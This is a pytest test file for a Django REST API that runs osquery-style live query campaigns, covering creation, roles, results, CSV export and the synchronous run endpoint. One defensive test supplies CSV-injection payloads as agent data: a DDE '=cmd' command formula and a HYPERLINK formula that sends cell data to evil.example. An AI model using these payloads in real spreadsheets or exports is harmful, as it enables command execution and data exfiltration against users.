"""REST API for live queries: start, list, detail, results (filters, pages, CSV), stop, and ``run/``.

Answers come from enrolled test agents through ``distributed/write``, as in production. The
synchronous ``run/`` endpoint waits inside the request, so its tests run a real server
(``live_server``) and play the agents from another thread over HTTP while the request waits.
"""

from __future__ import annotations

import csv
import io
import json
import threading
import time
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from typing import Any

import pytest
from django.contrib.auth import get_user_model
from django.core.handlers.wsgi import WSGIHandler
from django.db import connection
from django.test.utils import CaptureQueriesContext
from rest_framework.test import APIClient

from campaigns import services
from campaigns.models import Campaign, CampaignResult, CampaignStatus
from hosts import seen
from hosts.models import Host, HostSeenTime, Team
from tests.agent import Agent
from tests.factories import api_for, token_for, user_with_role

QUERY_PREFIX = "fleet_distributed_query_"


# --- helpers (also used by tests/test_command_live_query.py) -----------------------------------------


class HTTPResponse:
    def __init__(self, status_code: int, body: bytes) -> None:
        self.status_code = status_code
        self.content = body

    def json(self) -> Any:
        return json.loads(self.content)


class HTTPClient:
    """Just enough of ``django.test.Client.post`` for ``tests.agent.Agent``, over real HTTP.

    A request through Django's test client runs in the calling thread; an agent that must answer
    while another request (or a command) waits needs a real server and its own thread.
    """

    def __init__(self, base_url: str, token: str | None = None) -> None:
        self.base_url = base_url.rstrip("/")
        self.token = token

    def post(self, path: str, data: bytes | str, content_type: str = "application/json", **extra: str):
        headers = {"Content-Type": content_type}
        for key, value in extra.items():  # Django's HTTP_X_Y test-client names
            headers[key.removeprefix("HTTP_").replace("_", "-").title()] = value
        if self.token:
            headers["Authorization"] = f"Token {self.token}"
        body = data.encode() if isinstance(data, str) else data
        request = urllib.request.Request(self.base_url + path, data=body, headers=headers, method="POST")
        try:
            with urllib.request.urlopen(request, timeout=60) as response:
                return HTTPResponse(response.status, response.read())
        except urllib.error.HTTPError as error:
            return HTTPResponse(error.code, error.read())


Answer = tuple[Any, int, str] | None  # (rows, status, error message); None: never answer


class AgentPlayer:
    """Agents that check in like osquery would and answer every live query they are sent.

    Each agent runs in its own thread, so one agent taking its time does not hold up the others.
    """

    def __init__(
        self, agents: list[Agent], answer: Callable[[Agent, str], Answer], stop_after: float = 30.0
    ) -> None:
        self.answer = answer
        self.deadline = time.monotonic() + stop_after
        self.stopping = threading.Event()
        self.errors: list[BaseException] = []
        self.threads = [threading.Thread(target=self._play, args=(agent,), daemon=True) for agent in agents]

    def start(self) -> None:
        for thread in self.threads:
            thread.start()

    def _play(self, agent: Agent) -> None:
        done: set[str] = set()
        try:
            while not self.stopping.is_set() and time.monotonic() < self.deadline:
                queries = agent.authed("distributed/read").json()["queries"]
                for name, sql in queries.items():
                    if not name.startswith(QUERY_PREFIX) or name in done:
                        continue
                    done.add(name)
                    answer = self.answer(agent, sql)
                    if answer is None:
                        continue
                    rows, status, message = answer
                    body = {"queries": {name: rows}, "statuses": {name: status}}
                    if message:
                        body["messages"] = {name: message}
                    assert agent.authed("distributed/write", body).status_code == 200
                time.sleep(0.05)
        except BaseException as error:  # surfaced by stop()
            self.errors.append(error)

    def stop(self) -> None:
        self.stopping.set()
        for thread in self.threads:
            thread.join(10)
        assert not self.errors, self.errors


class OneDatabaseUserAtATime:
    """Lets one thread at a time use the database in ``live_server`` tests.

    On SQLite, ``live_server`` hands its threads the test's own in-memory connection, and SQLite
    refuses to commit while another thread has a statement open ("cannot commit transaction - SQL
    statements in progress"). So every request holds a lock, the test holds it while it runs a
    command, and whoever sleeps (the ``run/`` view and the command poll with ``time.sleep``) lets
    go of it meanwhile: the agents' requests are served exactly while the waiting code sleeps.
    """

    def __init__(self, monkeypatch: pytest.MonkeyPatch) -> None:
        self.lock = threading.Lock()
        self.local = threading.local()
        handle, sleep = WSGIHandler.__call__, time.sleep

        def locked_handle(handler: WSGIHandler, environ: dict, start_response: Any) -> Any:
            with self.hold():
                return handle(handler, environ, start_response)

        def unlocked_sleep(seconds: float) -> None:
            if not getattr(self.local, "held", False):
                sleep(seconds)
                return
            self.lock.release()
            try:
                sleep(seconds)
            finally:
                self.lock.acquire()

        monkeypatch.setattr(WSGIHandler, "__call__", locked_handle)
        monkeypatch.setattr(time, "sleep", unlocked_sleep)

    @contextmanager
    def hold(self) -> Iterator[None]:
        with self.lock:
            self.local.held = True
            try:
                yield
            finally:
                self.local.held = False


@pytest.fixture
def one_db_user_at_a_time(monkeypatch: pytest.MonkeyPatch) -> OneDatabaseUserAtATime:
    return OneDatabaseUserAtATime(monkeypatch)


def enroll_over_http(base_url: str, secret: str, names: list[str]) -> list[Agent]:
    """Agents enrolled through a running server, each checked in once (so online)."""
    agents = []
    for name in names:
        agent = Agent(HTTPClient(base_url), identifier=f"uuid-{name}", hostname=name)  # type: ignore[arg-type]
        assert agent.enroll(secret).get("node_key"), name
        agent.authed("distributed/read")
        agents.append(agent)
    return agents


def os_version_answer(agent: Agent, sql: str) -> Answer:
    return [{"name": "macOS", "host": agent.details["system_info"]["hostname"]}], 0, ""


# --- fixtures ------------------------------------------------------------------------------------------


@pytest.fixture
def admin(db):
    return get_user_model().objects.create_superuser("admin", "admin@example.com", "pw")


@pytest.fixture
def admin_api(admin):
    return api_for(admin)


def enrolled(client, secret: str, names: list[str]) -> list[Agent]:
    agents = []
    for name in names:
        agent = Agent(client, identifier=f"uuid-{name}", hostname=name)
        agent.enroll(secret)
        agent.authed("distributed/read")  # seen now: online
        agents.append(agent)
    return agents


def host_id(agent: Agent) -> int:
    return Host.objects.get(osquery_host_id=agent.identifier).id


def make_offline(agent: Agent) -> None:
    seen.flush()
    HostSeenTime.objects.filter(host_id=host_id(agent)).delete()


def answer(agent: Agent, campaign_id: int, rows: Any, status: int = 0, message: str = "") -> None:
    name = f"{QUERY_PREFIX}{campaign_id}"
    body: dict[str, Any] = {"queries": {name: rows}, "statuses": {name: status}}
    if message:
        body["messages"] = {name: message}
    assert agent.authed("distributed/write", body).status_code == 200


def start(api, sql: str = "SELECT * FROM os_version", targets: Any = None, **extra: Any):
    return api.post(
        "/api/v1/campaigns/", {"sql": sql, "targets": targets or {"all": True}, **extra}, format="json"
    )


# --- create --------------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_create_by_every_host_identifier_returns_the_campaign(client, global_secret, admin, admin_api):
    a, b, c, d = enrolled(client, global_secret, ["alpha", "bravo", "charlie", "delta"])
    Host.objects.filter(id=host_id(c)).update(hardware_serial="SERIAL-C")
    targets = {"hosts": [host_id(a), "bravo", "SERIAL-C"], "teams": [], "labels": []}
    response = start(admin_api, targets=targets)
    assert response.status_code == 201, response.json()
    body = response.json()
    campaign = Campaign.objects.get()
    assert body["id"] == campaign.id and body["sql"] == "SELECT * FROM os_version"
    assert body["status"] == "waiting" and body["created_by"] == "admin" and body["ended_at"] is None
    assert body["targets"] == {
        "hosts": [host_id(a), "bravo", "SERIAL-C"],
        "labels": [],
        "teams": [],
        "all": False,
    }
    assert body["totals"] == {
        "targeted": 3,
        "online": 3,
        "offline": 0,
        "missing": 0,
        "count": 3,
        "missing_in_action": 0,
    }
    assert body["summary"]["expected_results"] == 3 and body["summary"]["status"] == "pending"
    assert body["summary"]["pending"] == 3
    # The targets received it at their next check-in; the other host did not.
    name = f"{QUERY_PREFIX}{campaign.id}"
    assert name in a.authed("distributed/read").json()["queries"]
    assert name not in d.authed("distributed/read").json()["queries"]
    # A host by uuid works too.
    assert start(admin_api, targets={"hosts": ["uuid-delta"]}).json()["totals"]["targeted"] == 1


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("body", "message"),
    [
        ({"sql": "SELEC 1", "targets": {"all": True}}, "syntax error"),
        ({"sql": "", "targets": {"all": True}}, "SQL is empty"),
        ({"sql": "SELECT 1; SELECT 2", "targets": {"all": True}}, "single statement"),
        ({"targets": {"all": True}}, "sql (or query_id) is required"),
        ({"sql": "SELECT 1"}, "no targets"),
        ({"sql": "SELECT 1", "targets": {}}, "no targets"),
        ({"sql": "SELECT 1", "targets": {"hosts": []}}, "no targets"),
        ({"sql": "SELECT 1", "targets": {"hosts": ["nope", "alpha"]}}, "unknown host(s): nope"),
        ({"sql": "SELECT 1", "targets": {"teams": ["Nope"]}}, "unknown team(s): Nope"),
        ({"sql": "SELECT 1", "targets": {"labels": ["No such label"]}}, "unknown label(s): No such label"),
        ({"sql": "SELECT 1", "targets": {"hosts": "alpha"}}, "must be a list"),
        ({"sql": "SELECT 1", "targets": ["alpha"]}, "targets must be an object"),
        ({"sql": "SELECT 1", "targets": {"devices": [1]}}, "unknown target kind"),
        ({"query_id": 7, "targets": {"all": True}}, "unknown query: 7"),
        ({"sql": "SELECT 1", "query_id": 7, "targets": {"all": True}}, "not both"),
    ],
)
def test_bad_input_is_a_400_with_the_reason_and_starts_nothing(
    client, global_secret, admin_api, body, message
):
    enrolled(client, global_secret, ["alpha"])
    response = admin_api.post("/api/v1/campaigns/", body, format="json")
    assert response.status_code == 400
    assert message in response.json()["message"]
    assert not Campaign.objects.exists()


@pytest.mark.django_db
def test_malformed_fields_are_a_400_too(admin_api):
    response = admin_api.post("/api/v1/campaigns/", {"sql": "SELECT 1", "query_id": "x"}, format="json")
    assert response.status_code == 400 and "query_id" in response.json()["errors"]
    response = admin_api.post("/api/v1/campaigns/", [1, 2], format="json")
    assert response.status_code == 400
    assert not Campaign.objects.exists()


@pytest.mark.django_db
def test_no_hosts_in_scope_is_a_400(team, admin_api):
    response = start(admin_api, targets={"teams": [team.id]})
    assert response.status_code == 400 and response.json() == {"message": "no hosts targeted"}


# --- roles ---------------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_observers_users_without_a_role_and_anonymous_may_not_start(client, global_secret, team):
    enrolled(client, global_secret, ["alpha"])
    for user in (user_with_role("obs", "observer"), user_with_role("tobs", "observer", team)):
        api = api_for(user)
        response = start(api)
        assert response.status_code == 403, user
        assert "may not run live queries" in response.json()["message"]
        assert api.get("/api/v1/campaigns/").json()["results"] == []
    assert start(api_for(user_with_role("op", "observer_plus"))).status_code == 201
    # No role at all: refused everywhere, as the host API does, rather than shown an empty list.
    nobody = api_for(user_with_role("x"))
    assert start(nobody).status_code == 403
    assert nobody.get("/api/v1/campaigns/").status_code == 403
    assert start(APIClient()).status_code == 401
    assert APIClient().get("/api/v1/campaigns/").status_code == 401
    assert Campaign.objects.count() == 1


@pytest.mark.django_db
def test_team_maintainer_reaches_only_their_teams_hosts(client, team, team_secret, global_secret):
    (mine,) = enrolled(client, team_secret, ["team-host"])
    enrolled(client, global_secret, ["global-host"])
    api = api_for(user_with_role("tm", "maintainer", team))
    body = start(api).json()
    assert body["totals"]["targeted"] == 1
    assert Campaign.objects.get(pk=body["id"]).host_ids == [host_id(mine)]
    response = start(api, targets={"hosts": ["global-host"]})
    assert response.status_code == 400 and "unknown host(s): global-host" in response.json()["message"]
    assert start(api, targets={"teams": [team.name]}).status_code == 201


@pytest.mark.django_db
def test_only_the_creator_and_admins_see_and_stop_a_campaign(client, global_secret, admin):
    enrolled(client, global_secret, ["alpha"])
    creator = user_with_role("maint", "maintainer")
    other = api_for(user_with_role("other", "maintainer"))
    global_admin = api_for(user_with_role("gadmin", "admin"))
    campaign_id = start(api_for(creator)).json()["id"]
    start(other)  # the other user's own campaign

    for path in (f"/api/v1/campaigns/{campaign_id}/", f"/api/v1/campaigns/{campaign_id}/results/"):
        response = other.get(path)
        assert response.status_code == 403 and "creator and admins" in response.json()["message"]
    assert other.post(f"/api/v1/campaigns/{campaign_id}/stop/").status_code == 403
    assert other.get("/api/v1/campaigns/99999/").status_code == 404
    assert [c["created_by"] for c in other.get("/api/v1/campaigns/").json()["results"]] == ["other"]
    assert Campaign.objects.get(pk=campaign_id).status == CampaignStatus.WAITING

    assert {c["created_by"] for c in global_admin.get("/api/v1/campaigns/").json()["results"]} == {
        "maint",
        "other",
    }
    assert global_admin.get(f"/api/v1/campaigns/{campaign_id}/").status_code == 200
    assert api_for(admin).get(f"/api/v1/campaigns/{campaign_id}/results/").status_code == 200
    response = global_admin.post(f"/api/v1/campaigns/{campaign_id}/stop/")
    assert response.status_code == 200 and response.json()["status"] == "stopped"


# --- list ----------------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_list_is_newest_first_filtered_by_status_and_paginated(client, global_secret, admin, admin_api):
    (a,) = enrolled(client, global_secret, ["alpha"])
    ids = [start(admin_api, sql=f"SELECT {i}").json()["id"] for i in range(5)]
    services.stop_campaign(Campaign.objects.get(pk=ids[1]))
    answer(a, ids[3], [{"n": "3"}])  # finishes: alpha is the only target

    body = admin_api.get("/api/v1/campaigns/").json()
    assert [c["id"] for c in body["results"]] == ids[::-1] and body["count"] == 5
    page = admin_api.get("/api/v1/campaigns/?limit=2&offset=2").json()
    assert [c["id"] for c in page["results"]] == [ids[2], ids[1]] and page["next"] and page["previous"]
    stopped = admin_api.get("/api/v1/campaigns/?status=stopped").json()["results"]
    assert [c["id"] for c in stopped] == [ids[1]]
    active = admin_api.get("/api/v1/campaigns/?status=waiting&status=running").json()["results"]
    assert [c["id"] for c in active] == [ids[4], ids[2], ids[0]]
    finished = admin_api.get("/api/v1/campaigns/?status=finished").json()["results"]
    assert finished[0]["summary"]["rows"] == 1 and finished[0]["ended_at"]
    assert [c["id"] for c in admin_api.get("/api/v1/campaigns/?search=select 3").json()["results"]] == [
        ids[3]
    ]
    response = admin_api.get("/api/v1/campaigns/?status=bogus")
    assert response.status_code == 400 and "status" in response.json()["errors"]


@pytest.mark.django_db
def test_list_summaries_match_the_service_and_cost_the_same_queries_for_any_page(
    client, global_secret, admin, admin_api
):
    agents = enrolled(client, global_secret, ["alpha", "bravo", "charlie"])
    make_offline(agents[2])

    def campaigns_page() -> list[dict]:
        with CaptureQueriesContext(connection) as queries:
            body = admin_api.get("/api/v1/campaigns/?limit=50").json()
        return body["results"], len(queries)

    first = start(admin_api).json()["id"]
    answer(agents[0], first, [{"a": "1"}])
    _, few = campaigns_page()
    for i in range(6):
        campaign_id = start(admin_api, sql=f"SELECT {i}").json()["id"]
        answer(agents[i % 3], campaign_id, [] if i % 2 else [{"x": "y"}])  # the offline host answers too
        if i == 4:
            answer(agents[1], campaign_id, "", status=1, message="boom")
    results, many = campaigns_page()
    assert many == few
    for item in results:
        campaign = Campaign.objects.get(pk=item["id"])
        assert item["summary"] == services.status_summary(campaign), item["id"]


@pytest.mark.django_db
def test_detail(client, global_secret, admin_api):
    (a,) = enrolled(client, global_secret, ["alpha"])
    campaign_id = start(admin_api, targets={"hosts": ["alpha"]}).json()["id"]
    answer(a, campaign_id, [{"name": "macOS"}])
    body = admin_api.get(f"/api/v1/campaigns/{campaign_id}/").json()
    assert body["status"] == "finished" and body["ended_at"]
    assert body["summary"] == {
        "expected_results": 1,
        "actual_results": 1,
        "status": "finished",
        "campaign_status": "finished",
        "rows": 1,
        "no_rows": 0,
        "failed": 0,
        "pending": 0,
        "offline": 0,
    }


# --- results -------------------------------------------------------------------------------------------


@pytest.fixture
def answered_campaign(client, global_secret, admin_api):
    """Five targets: rows (2 rows), no rows, failed, pending (online, silent), offline (silent)."""
    agents = enrolled(client, global_secret, ["rows", "empty", "failing", "silent", "away"])
    make_offline(agents[4])
    campaign_id = start(admin_api).json()["id"]
    answer(
        agents[0], campaign_id, [{"name": "macOS", "version": "14.5"}, {"name": "macOS", "build": "23F79"}]
    )
    answer(agents[1], campaign_id, [])
    answer(agents[2], campaign_id, "", status=1, message="no such table: os_version")
    return campaign_id, {agent.details["system_info"]["hostname"]: host_id(agent) for agent in agents}


@pytest.mark.django_db
def test_results_list_answers_then_unanswered_targets(admin_api, answered_campaign):
    campaign_id, hosts = answered_campaign
    body = admin_api.get(f"/api/v1/campaigns/{campaign_id}/results/").json()
    assert body["count"] == 5
    by_host = {r["hostname"]: r for r in body["results"]}
    assert [r["hostname"] for r in body["results"]] == ["rows", "empty", "failing", "silent", "away"]
    assert by_host["rows"]["state"] == "rows" and by_host["rows"]["row_count"] == 2
    assert (
        by_host["rows"]["rows"][1] == {"name": "macOS", "build": "23F79"} and by_host["rows"]["received_at"]
    )
    assert (by_host["empty"]["state"], by_host["empty"]["rows"]) == ("no_rows", [])
    assert by_host["failing"]["state"] == "failed"
    assert by_host["failing"]["error"] == "no such table: os_version"
    assert by_host["silent"] == {
        "id": None,
        "host_id": hosts["silent"],
        "hostname": "silent",
        "state": "pending",
        "rows": [],
        "row_count": 0,
        "error": None,
        "received_at": None,
    }
    assert by_host["away"]["state"] == "offline" and by_host["away"]["host_id"] == hosts["away"]


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("state", "hostnames"),
    [
        ("rows", ["rows"]),
        ("no_rows", ["empty"]),
        ("failed", ["failing"]),
        ("pending", ["silent"]),
        ("offline", ["away"]),
    ],
)
def test_results_filter_by_state(admin_api, answered_campaign, state, hostnames):
    campaign_id, _ = answered_campaign
    body = admin_api.get(f"/api/v1/campaigns/{campaign_id}/results/?state={state}").json()
    assert [r["hostname"] for r in body["results"]] == hostnames and body["count"] == len(hostnames)


@pytest.mark.django_db
def test_results_filter_by_host_and_bad_filters(admin_api, answered_campaign):
    campaign_id, hosts = answered_campaign
    url = f"/api/v1/campaigns/{campaign_id}/results/"
    for name in ("rows", "silent", "away"):
        body = admin_api.get(f"{url}?host_id={hosts[name]}").json()
        assert [r["hostname"] for r in body["results"]] == [name]
    assert admin_api.get(f"{url}?host_id={hosts['silent']}&state=rows").json()["results"] == []
    assert admin_api.get(f"{url}?host_id=999999").json()["count"] == 0
    response = admin_api.get(f"{url}?state=maybe")
    assert response.status_code == 400 and "unknown state 'maybe'" in response.json()["message"]
    response = admin_api.get(f"{url}?host_id=alpha")
    assert response.status_code == 400 and "host_id" in response.json()["message"]


@pytest.mark.django_db
def test_results_pages_cross_from_answers_to_unanswered_targets(admin_api, answered_campaign):
    campaign_id, _ = answered_campaign
    url = f"/api/v1/campaigns/{campaign_id}/results/"
    seen_names = []
    next_url = f"{url}?limit=2"
    while next_url:
        body = admin_api.get(next_url).json()
        assert body["count"] == 5
        seen_names += [r["hostname"] for r in body["results"]]
        next_url = body["next"]
    assert seen_names == ["rows", "empty", "failing", "silent", "away"]
    middle = admin_api.get(f"{url}?limit=2&offset=2").json()["results"]
    assert [(r["hostname"], r["state"]) for r in middle] == [("failing", "failed"), ("silent", "pending")]
    assert admin_api.get(f"{url}?offset=10").json()["results"] == []


@pytest.mark.django_db
def test_results_csv_export(admin_api, answered_campaign):
    campaign_id, hosts = answered_campaign
    response = admin_api.get(f"/api/v1/campaigns/{campaign_id}/results/?format=csv")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert f"campaign-{campaign_id}-results.csv" in response["Content-Disposition"]
    lines = list(csv.reader(io.StringIO(response.content.decode())))
    assert lines[0] == ["host_id", "hostname", "name", "version", "build", "state", "error"]
    assert lines[1:] == [
        [str(hosts["rows"]), "rows", "macOS", "14.5", "", "rows", ""],
        [str(hosts["rows"]), "rows", "macOS", "", "23F79", "rows", ""],
        [str(hosts["empty"]), "empty", "", "", "", "no_rows", ""],
        [str(hosts["failing"]), "failing", "", "", "", "failed", "no such table: os_version"],
        [str(hosts["silent"]), "silent", "", "", "", "pending", ""],
        [str(hosts["away"]), "away", "", "", "", "offline", ""],
    ]
    only_failed = admin_api.get(f"/api/v1/campaigns/{campaign_id}/results/?format=csv&state=failed")
    lines = list(csv.reader(io.StringIO(only_failed.content.decode())))
    assert lines == [
        ["host_id", "hostname", "state", "error"],
        [str(hosts["failing"]), "failing", "failed", "no such table: os_version"],
    ]


@pytest.mark.django_db
def test_results_csv_neutralises_spreadsheet_formulas(client, global_secret, admin_api):
    """Agent text starting with = + - @ (a formula to Excel/Sheets) is exported as text."""
    (agent,) = enrolled(client, global_secret, ["=cmd|' /C calc'!A0"])
    campaign_id = start(admin_api).json()["id"]
    hostile = {
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")": "+SUM(1,2)",
        "plain": "@evil",
        "negative": "-12.5",
        "tabbed": "\t=1+1",
    }
    answer(agent, campaign_id, [hostile])
    response = admin_api.get(f"/api/v1/campaigns/{campaign_id}/results/?format=csv")
    lines = list(csv.reader(io.StringIO(response.content.decode())))
    header, row = lines[0], lines[1]
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in header
    assert row[1] == "'=cmd|' /C calc'!A0"
    cells = dict(zip(header, row, strict=True))
    assert cells["'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"] == "'+SUM(1,2)"
    assert cells["plain"] == "'@evil"
    assert cells["negative"] == "-12.5"  # a number stays a number
    assert cells["tabbed"] == "'\t=1+1"
    for line in lines:
        assert not any(cell[:1] in ("=", "+", "@", "\t") for cell in line)


@pytest.mark.django_db
def test_results_csv_refused_to_others(client, global_secret, answered_campaign):
    campaign_id, _ = answered_campaign
    response = api_for(user_with_role("nosy", "maintainer")).get(
        f"/api/v1/campaigns/{campaign_id}/results/?format=csv"
    )
    assert response.status_code == 403 and b"creator and admins" in response.content


# --- stop ----------------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_stop_ends_the_campaign_hosts_no_longer_get_it_and_late_answers_are_ignored(
    client, global_secret, admin_api
):
    a, b = enrolled(client, global_secret, ["alpha", "bravo"])
    campaign_id = start(admin_api).json()["id"]
    answer(a, campaign_id, [{"x": "1"}])
    response = admin_api.post(f"/api/v1/campaigns/{campaign_id}/stop/")
    assert response.status_code == 200
    body = response.json()
    assert body["status"] == "stopped" and body["ended_at"] and body["summary"]["status"] == "finished"
    assert f"{QUERY_PREFIX}{campaign_id}" not in b.authed("distributed/read").json()["queries"]
    answer(b, campaign_id, [{"x": "2"}])
    assert CampaignResult.objects.filter(campaign_id=campaign_id).count() == 1
    # Stopping again changes nothing; the stored answer is still there to read.
    again = admin_api.post(f"/api/v1/campaigns/{campaign_id}/stop/").json()
    assert again["status"] == "stopped" and again["ended_at"] == body["ended_at"]
    assert admin_api.get(f"/api/v1/campaigns/{campaign_id}/results/?state=rows").json()["count"] == 1
    assert admin_api.post("/api/v1/campaigns/424242/stop/").status_code == 404


# --- run/ (synchronous) ---------------------------------------------------------------------------------


@pytest.mark.django_db
def test_run_returns_at_the_timeout_with_what_arrived_and_leaves_the_campaign_running(
    client, global_secret, admin_api
):
    enrolled(client, global_secret, ["silent"])
    began = time.monotonic()
    response = admin_api.post(
        "/api/v1/campaigns/run/", {"sql": "SELECT 1", "targets": {"all": True}, "timeout": 0.5}, format="json"
    )
    elapsed = time.monotonic() - began
    assert response.status_code == 200
    body = response.json()
    assert body["timed_out"] is True and body["results"] == [] and 0.5 <= elapsed < 3
    assert body["summary"]["status"] == "pending" and body["summary"]["pending"] == 1
    assert body["campaign"]["status"] == "waiting"
    assert Campaign.objects.get(pk=body["campaign"]["id"]).is_active


@pytest.mark.django_db
def test_run_with_only_offline_targets_returns_at_once(client, global_secret, admin_api):
    (away,) = enrolled(client, global_secret, ["away"])
    make_offline(away)
    began = time.monotonic()
    body = admin_api.post(
        "/api/v1/campaigns/run/", {"sql": "SELECT 1", "targets": {"all": True}}, format="json"
    ).json()
    assert time.monotonic() - began < 2
    assert body["timed_out"] is False and body["summary"]["expected_results"] == 0
    assert body["summary"]["offline"] == 1


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("body", "message"),
    [
        ({"sql": "SELEC 1", "targets": {"all": True}}, "syntax error"),
        ({"sql": "SELECT 1", "targets": {"hosts": ["ghost"]}}, "unknown host(s): ghost"),
        ({"sql": "SELECT 1", "targets": {"all": True}, "timeout": -1}, "invalid request"),
        ({"sql": "SELECT 1", "targets": {"all": True}, "timeout": "soon"}, "invalid request"),
    ],
)
def test_run_bad_input_is_a_400_and_starts_nothing(client, global_secret, admin_api, body, message):
    enrolled(client, global_secret, ["alpha"])
    response = admin_api.post("/api/v1/campaigns/run/", body, format="json")
    assert response.status_code == 400 and message in response.json()["message"]
    assert not Campaign.objects.exists()


@pytest.mark.django_db
def test_run_refuses_observers(client, global_secret):
    enrolled(client, global_secret, ["alpha"])
    response = api_for(user_with_role("obs", "observer")).post(
        "/api/v1/campaigns/run/", {"sql": "SELECT 1", "targets": {"all": True}}, format="json"
    )
    assert response.status_code == 403 and not Campaign.objects.exists()


@pytest.mark.django_db(transaction=True)
def test_run_waits_for_answers_arriving_through_the_agent_api(live_server, one_db_user_at_a_time):
    from hosts.models import EnrollSecret

    EnrollSecret.objects.create(secret="live-secret")
    admin = get_user_model().objects.create_superuser("admin", "admin@example.com", "pw")
    token = token_for(admin)
    agents = enroll_over_http(live_server.url, "live-secret", ["alpha", "bravo", "charlie"])

    def answers(agent: Agent, sql: str) -> Answer:
        time.sleep(0.3)  # answers trickle in while the request waits
        if agent.identifier == "uuid-charlie":
            return "", 1, "no such table: os_version"
        return os_version_answer(agent, sql)

    player = AgentPlayer(agents, answers)
    player.start()
    try:
        began = time.monotonic()
        response = HTTPClient(live_server.url, token).post(
            "/api/v1/campaigns/run/",
            json.dumps({"sql": "SELECT * FROM os_version", "targets": {"all": True}, "timeout": 20}),
        )
        elapsed = time.monotonic() - began
    finally:
        player.stop()
    assert response.status_code == 200, response.content
    body = response.json()
    assert body["timed_out"] is False and elapsed < 15
    assert body["summary"]["status"] == "finished"
    assert (body["summary"]["rows"], body["summary"]["failed"], body["summary"]["actual_results"]) == (
        2,
        1,
        3,
    )
    assert body["campaign"]["status"] == "finished" and body["campaign"]["summary"] == body["summary"]
    by_host = {r["hostname"]: r for r in body["results"]}
    assert by_host["alpha"]["rows"] == [{"name": "macOS", "host": "alpha"}]
    assert (
        by_host["charlie"]["state"] == "failed" and by_host["charlie"]["error"] == "no such table: os_version"
    )


@pytest.mark.django_db
def test_schema_documents_the_campaign_endpoints(admin_api):
    schema = admin_api.get("/api/v1/schema/", HTTP_ACCEPT="application/vnd.oai.openapi+json").json()
    for path, method in (
        ("/api/v1/campaigns/", "get"),
        ("/api/v1/campaigns/", "post"),
        ("/api/v1/campaigns/run/", "post"),
        ("/api/v1/campaigns/{id}/", "get"),
        ("/api/v1/campaigns/{id}/results/", "get"),
        ("/api/v1/campaigns/{id}/stop/", "post"),
    ):
        assert method in schema["paths"][path], (path, method)
    params = {p["name"] for p in schema["paths"]["/api/v1/campaigns/{id}/results/"]["get"]["parameters"]}
    assert {"host_id", "state", "format", "limit", "offset"} <= params
    assert "status" in {p["name"] for p in schema["paths"]["/api/v1/campaigns/"]["get"]["parameters"]}


# --- saved queries --------------------------------------------------------------------------------


def test_a_saved_query_runs_by_id(client, global_secret, admin_api):
    from queries.models import Query

    enrolled(client, global_secret, ["alpha", "beta"])
    query = Query.objects.create(name="OS", query="SELECT name FROM os_version")
    response = admin_api.post(
        "/api/v1/campaigns/", {"query_id": query.id, "targets": {"all": True}}, format="json"
    )
    assert response.status_code == 201, response.json()
    campaign = Campaign.objects.get(pk=response.json()["id"])
    assert (campaign.sql, campaign.query_name, campaign.targeted_count) == (query.query, "OS", 2)


def test_observers_run_only_saved_queries_that_allow_it_on_their_teams(
    client, team, team_secret, global_secret
):
    from queries.models import Query

    mine = Agent(client, identifier="uuid-mine", hostname="mine")
    mine.enroll(team_secret)
    enrolled(client, global_secret, ["other"])
    observer = api_for(user_with_role("obs", "observer", team))
    allowed = Query.objects.create(name="Allowed", query="SELECT 1", observer_can_run=True)
    closed = Query.objects.create(name="Closed", query="SELECT 2")
    body = {"query_id": allowed.id, "targets": {"all": True}}
    response = observer.post("/api/v1/campaigns/", body, format="json")
    assert response.status_code == 201
    assert Campaign.objects.get(pk=response.json()["id"]).host_ids == [host_id(mine)]
    for refused in (
        {"query_id": closed.id, "targets": {"all": True}},
        {"sql": "SELECT 1", "targets": {"all": True}},
    ):
        assert observer.post("/api/v1/campaigns/", refused, format="json").status_code == 403
    # Another team's query is unknown to them.
    other_team_query = Query.objects.create(
        name="Theirs", query="SELECT 3", observer_can_run=True, team=Team.objects.create(name="Other")
    )
    body = {"query_id": other_team_query.id, "targets": {"all": True}}
    response = observer.post("/api/v1/campaigns/", body, format="json")
    assert response.status_code == 400 and "unknown query" in response.json()["message"]
